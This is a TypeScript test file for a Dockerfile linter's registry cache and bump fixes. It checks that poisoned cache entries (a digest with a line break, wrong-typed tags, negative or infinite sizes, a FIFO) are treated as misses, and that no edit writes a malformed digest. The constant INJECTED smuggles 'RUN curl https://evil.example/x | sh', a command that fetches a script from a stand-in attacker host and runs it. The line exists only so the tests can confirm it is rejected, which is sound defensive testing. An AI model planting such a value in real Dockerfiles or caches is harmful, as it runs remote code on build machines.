// A registry cache anyone may have written (a CI cache restored from another branch, a shared
// --cache-dir): values are checked exactly as live answers, a bad entry is a miss told once, only
// regular files are read, and whatever the source, a bump never writes a malformed tag or digest.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { after, afterEach, before, describe, it } from 'node:test';
import type { RegistryFacts } from '../../server/src/core/options';
import { CACHE_SCHEMA, DiskCache } from '../../server/src/registry/cache';
import { RegistryClient } from '../../server/src/registry/client';
import { registryEndpoint } from '../../server/src/registry/endpoints';
import { MEDIA_TYPES } from '../../server/src/registry/manifest';
import { ok } from '../../server/src/registry/result';
import { findings } from '../helpers/analyze';
import { FixtureRegistry, imageManifest } from './fixtureServer';

const INJECTED = 'sha256:0000\nRUN curl https://evil.example/x | sh\n#';
const repo = { registry: 'a.test', path: 'library/python' };

describe('registry cache written by someone else', () => {
	const registry = new FixtureRegistry();
	let digest = '';
	before(async () => {
		await registry.start();
		digest = registry.putManifest('library/python', imageManifest('py', [10, 20]), MEDIA_TYPES.dockerManifest, '3.12.1-slim');
	});
	after(() => registry.stop());
	afterEach(() => registry.reset());

	function setup() {
		const dir = mkdtempSync(path.join(tmpdir(), 'patchlens-poison-'));
		const told: string[] = [];
		const cache = new DiskCache({ dir, ttlMs: 3_600_000, onInvalid: m => told.push(m) });
		const client = new RegistryClient({ endpoint: registryEndpoint(new Map([['a.test', registry.url]])), cache, http: { timeoutMs: 2000 } });
		const write = (key: string, value: unknown, extra: object = {}) => {
			mkdirSync(dir, { recursive: true });
			writeFileSync(cache.fileFor(key), JSON.stringify({ schema: CACHE_SCHEMA, key, storedAt: Date.now(), value, ...extra }));
		};
		return { dir, told, cache, client, write, key: (kind: string, ...rest: string[]) => [kind, registry.url, repo.path, ...rest].join('|') };
	}

	it('treats a digest with a line break, wrong-typed tags and negative or infinite sizes as misses, told once', async () => {
		const { told, client, write, key } = setup();
		write(key('digest', '3.12.1-slim'), INJECTED);
		write(key('tags'), [1, null, {}]);
		const manifest = imageManifest('py', [1]) as { layers: { digest: string; size: number }[] };
		write(key('manifest', '3.12.1-slim'), { digest, manifest: { kind: 'image', mediaType: MEDIA_TYPES.dockerManifest, layers: [{ digest: manifest.layers[0].digest, size: -5 }] } });
		assert.deepEqual(await client.digest(repo, '3.12.1-slim'), ok(digest));
		assert.deepEqual(await client.tags(repo), ok(['3.12.1-slim']));
		const layers = await client.layers(repo, '3.12.1-slim');
		assert.ok(layers.ok && layers.value.every(l => l.size > 0), JSON.stringify(layers));
		assert.equal(told.length, 1, told.join('\n'));
		assert.match(told[0], /ignoring cache entry .*\.json: its value is not a valid registry answer; looking it up again/);
		assert.equal(registry.apiRequests().length, 3, 'each poisoned entry was looked up live');
	});

	it('accepts sizes only when finite: 1e999 in a cached manifest is a miss', async () => {
		const { dir, client, key, cache } = setup();
		const file = cache.fileFor(key('manifest', '3.12.1-slim'));
		mkdirSync(dir, { recursive: true });
		const layer = (imageManifest('py', [1]) as { layers: { digest: string }[] }).layers[0].digest;
		writeFileSync(file, `{"schema":${CACHE_SCHEMA},"key":${JSON.stringify(key('manifest', '3.12.1-slim'))},"storedAt":${Date.now()},"value":{"digest":"${digest}","manifest":{"kind":"image","mediaType":"x","layers":[{"digest":"${layer}","size":1e999}]}}}`);
		const layers = await client.layers(repo, '3.12.1-slim');
		assert.ok(layers.ok);
		assert.deepEqual(layers.value.map(l => l.size), [10, 20]);
	});

	it('reads entries of another schema version as plain misses, without a word', async () => {
		const { told, client, write, key } = setup();
		write(key('tags'), ['evil'], { schema: CACHE_SCHEMA - 1 });
		assert.deepEqual(await client.tags(repo), ok(['3.12.1-slim']));
		assert.deepEqual(told, []);
	});

	it('does not block on a FIFO where an entry should be', { timeout: 20_000 }, async () => {
		const { dir, told, client, cache, key } = setup();
		mkdirSync(dir, { recursive: true });
		const made = spawnSync('mkfifo', [cache.fileFor(key('tags'))]);
		assert.equal(made.status, 0, 'mkfifo is part of coreutils');
		assert.deepEqual(await client.tags(repo), ok(['3.12.1-slim']));
		assert.match(told[0], /not a regular file/);
	});
});

describe('bump edits refuse values outside the OCI grammar, whatever their source', () => {
	const PINNED = `sha256:${'a'.repeat(64)}`;
	const facts = (digest: string): RegistryFacts => ({
		tags: () => undefined,
		digest: () => digest,
		compressedSize: () => undefined,
		fetchedAt: new Date('2026-11-27T10:00:00Z'),
	});

	it('offers no edit that would write a digest with a line break into the FROM line', () => {
		const text = `FROM python:3.12.1-slim@${PINNED}\nRUN true\n`;
		const pl106 = findings(text, { offline: false, registryFacts: facts(INJECTED) }).filter(f => f.code === 'PL106');
		assert.ok(pl106.every(f => !f.fixes?.some(fix => fix.edits.some(e => e.newText.includes('\n')))), JSON.stringify(pl106));
		const good = `sha256:${'b'.repeat(64)}`;
		const fixed = findings(text, { offline: false, registryFacts: facts(good) }).find(f => f.code === 'PL106');
		assert.equal(fixed?.fixes?.[0].edits[0].newText, `:3.12.1-slim@${good}`);
	});
});
